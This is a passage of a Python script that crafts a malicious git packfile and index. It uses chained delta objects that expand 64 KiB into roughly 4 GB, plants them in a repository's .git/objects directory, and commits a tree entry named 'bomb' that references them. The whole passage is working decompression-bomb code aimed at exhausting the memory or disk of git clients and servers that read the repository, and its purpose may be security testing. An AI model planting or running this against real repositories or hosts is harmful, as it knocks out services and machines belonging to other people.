def varint(number):
    out = b""
    while True:
        number, low = number >> 7, number & 0x7F
        out += bytes([low | 0x80 if number else low])
        if not number:
            return out


def head(kind, size):
    first, size = (kind << 4) | (size & 15), size >> 4
    out = b""
    while size:
        out, first, size = out + bytes([first | 0x80]), size & 0x7F, size >> 7
    return out + bytes([first])


# Each delta copies what it builds upon again and again: 64 KiB become 4 GB in two steps.
size = 65536
first = head(3, size) + zlib.compress(b"x" * size)
delta = varint(size) + varint(size * 256) + b"\x80" * 256
second = (7, delta, hashlib.sha1(b"blob %d\0" % size + b"x" * size).digest())
copies = b"\xf0\xff\xff\xff" * 256  # offset 0, size 0xffffff
delta = varint(size * 256) + varint(0xFFFFFF * 256) + copies
third = (7, delta, hashlib.sha1(b"blob %d\0" % (size * 256) + b"x" * (size * 256)).digest())
names = [second[2], third[2], b"\xab" * 20]
bodies = [first] + [head(kind, len(text)) + base + zlib.compress(text) for kind, text, base in (second, third)]
data = b"PACK" + struct.pack(">II", 2, len(bodies))
places = []
for body in bodies:
    places.append(len(data))
    data += body
data += hashlib.sha1(data).digest()
index = b"\xfftOc\0\0\0\2" + b"".join(struct.pack(">I", sum(name[0] <= n for name in names)) for n in range(256))
rows = sorted(zip(names, bodies, places))
index += b"".join(name for name, _, _ in rows)
index += b"".join(struct.pack(">I", zlib.crc32(body)) for _, body, _ in rows)
index += b"".join(struct.pack(">I", place) for _, _, place in rows) + data[-20:]
for kind, content in (("pack", data), ("idx", index + hashlib.sha1(index).digest())):
    with open(f".git/objects/pack/pack-{data[-20:].hex()}.{kind}", "wb") as file:
        file.write(content)
commit(store(b"tree", entry(b"100644", b"bomb", "ab" * 20)), b"bomb")
print("planted")
